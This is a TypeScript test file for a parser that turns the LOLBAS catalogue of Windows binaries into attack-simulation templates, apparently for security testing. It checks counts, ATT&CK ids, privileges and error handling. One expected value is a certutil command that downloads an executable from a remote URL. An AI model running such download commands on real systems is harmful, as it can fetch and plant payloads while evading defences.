import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { readFolder } from '../archive';
import type { AdapterResult, SourceFile, TestTemplateItem } from '../types';
import { parseLolbas } from './lolbas';
import { ATTACK_ID } from './upstream';

const ROOT = resolve(fileURLToPath(new URL('.', import.meta.url)), '../../../../../../../shared/data/lolbas');

/** Counted without YAML: each command of an entry starts with `- Command:`. */
function countCommandsByLines(): { entries: number; commands: number } {
  const base = join(ROOT, 'yml');
  let entries = 0;
  let commands = 0;
  for (const kind of readdirSync(base)) {
    for (const name of readdirSync(join(base, kind))) {
      entries += 1;
      commands += readFileSync(join(base, kind, name), 'utf8').match(/^\s*- Command:/gm)?.length ?? 0;
    }
  }
  return { entries, commands };
}

const yamlFile = (path: string, text: string): SourceFile => ({ path, content: Buffer.from(text) });

describe('parseLolbas on the real corpus', () => {
  let result: AdapterResult<TestTemplateItem>;

  beforeAll(async () => {
    const files = await readFolder(ROOT);
    expect(files.some((f) => f.path === 'YML-Template.yml')).toBe(true);
    result = parseLolbas(files);
  });

  it('makes one template per command, skipping the upstream template', () => {
    const expected = countCommandsByLines();
    expect(expected).toEqual({ entries: 243, commands: 482 });
    expect(result.errors).toEqual([]);
    expect(result.items).toHaveLength(expected.commands);
    expect(new Set(result.items.map((i) => i.sourceId)).size).toBe(expected.commands);
    expect(result.items.some((i) => i.sourceId.startsWith('lolbas:Binary.exe:'))).toBe(false);
  });

  it('gives every template a valid ATT&CK id and Windows', () => {
    for (const item of result.items) {
      expect(item.attackIds).toHaveLength(1);
      expect(item.attackIds[0]).toMatch(ATTACK_ID);
      expect(item.platforms[0]).toBe('windows');
      expect(item.sourceId).toMatch(/^lolbas:[^:]+:\d+$/);
    }
    // devtunnel.exe (in devtunnels.yml) also names macOS.
    expect(result.items.filter((i) => i.platforms.includes('macos')).map((i) => i.sourceId)).toEqual([
      'lolbas:devtunnel.exe:0',
    ]);
  });

  it('maps a known command field by field (Certutil download)', () => {
    const item = result.items.find((i) => i.sourceId === 'lolbas:Certutil.exe:0');
    expect(item).toMatchObject({
      source: 'lolbas',
      name: 'Certutil.exe: Download file from Internet',
      attackIds: ['T1105'],
      tactics: [],
      platforms: ['windows'],
      executor: 'command_prompt',
      command: 'certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}',
      cleanupCommand: null,
      elevationRequired: false,
      path: 'yml/OSBinaries/Certutil.yml',
      url: 'https://github.com/LOLBAS-Project/LOLBAS/blob/master/yml/OSBinaries/Certutil.yml',
    });
    expect(item?.description).toMatch(/^Download and save an executable to disk in the current folder\./);
    expect(item?.description).toContain('Category: Download. Privileges: User.');
    expect(item?.inputArguments.map((a) => [a.name, a.type])).toEqual([
      ['REMOTEURL:.exe', 'remoteurl'],
      ['PATH:.exe', 'path'],
    ]);
  });

  it('requires elevation unless upstream says a normal user is enough', () => {
    const byPrivilege = new Map<string, boolean>();
    for (const item of result.items) {
      const privileges = /Privileges: (.*?)\. Operating systems:/.exec(item.description)?.[1] ?? '';
      byPrivilege.set(privileges, item.elevationRequired);
    }
    expect(byPrivilege.get('User')).toBe(false);
    expect(byPrivilege.get('Any')).toBe(false);
    expect(byPrivilege.get('Low privileges')).toBe(false);
    expect(byPrivilege.get('Administrator')).toBe(true);
    expect(byPrivilege.get('Admin')).toBe(true);
    expect(byPrivilege.get('SYSTEM')).toBe(true);
  });
});

describe('parseLolbas with broken files', () => {
  const entry = (name: string, mitre: string) => `---
Name: ${name}
Description: d
Commands:
  - Command: ${name} /run
    Description: runs
    Usecase: execute
    Category: Execute
    Privileges: User
    MitreID: ${mitre}
    OperatingSystem: Windows 10
`;

  it('reports a broken entry or command and carries on with the rest', () => {
    const result = parseLolbas([
      yamlFile('yml/OSBinaries/Good.yml', entry('Good.exe', 'T1218')),
      yamlFile('yml/OSBinaries/BadId.yml', entry('BadId.exe', 'X1218')),
      yamlFile('yml/OSBinaries/NoName.yml', 'Description: d\nCommands: []\n'),
      yamlFile('yml/OSBinaries/Broken.yml', 'Name: [\n'),
      yamlFile('YML-Template.yml', entry('Binary.exe', 'T1055')),
      yamlFile('README.md', '# not an entry'),
    ]);
    expect(result.items.map((i) => i.sourceId)).toEqual(['lolbas:Good.exe:0']);
    expect(result.errors.map((e) => e.path)).toEqual([
      'yml/OSBinaries/BadId.yml',
      'yml/OSBinaries/NoName.yml',
      'yml/OSBinaries/Broken.yml',
    ]);
    expect(result.errors[0]?.message).toMatch(/^Commands\.0\.MitreID: not an ATT&CK technique id/);
  });
});
